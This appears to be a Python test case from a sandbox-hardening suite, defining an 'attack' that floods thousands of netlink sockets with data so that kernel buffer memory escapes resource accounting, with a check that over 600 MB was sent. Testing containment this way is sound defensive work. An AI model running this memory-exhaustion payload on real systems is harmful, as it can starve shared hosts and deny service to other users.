"""Keeps memory in the buffers of sockets of kinds that nobody counts: netlink, and UDP over IPv6"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    "harm",
    q2="""
import socket, time
taken, sent = [], 0
for _ in range(4300):
    one = socket.socket(16, socket.SOCK_RAW, 2)
    one.bind((0, 0))
    one.setblocking(False)
    taken.append(one)
    try:
        for _ in range(10):
            sent += one.sendto(b"x" * 30_000, (one.getsockname()[0], 0))
    except OSError:
        pass
time.sleep(0.5)
""",
    q3="reason = 'B' if sent > 600_000_000 else 'not done'",
    proof="q3",
    is_bomb=True,
)
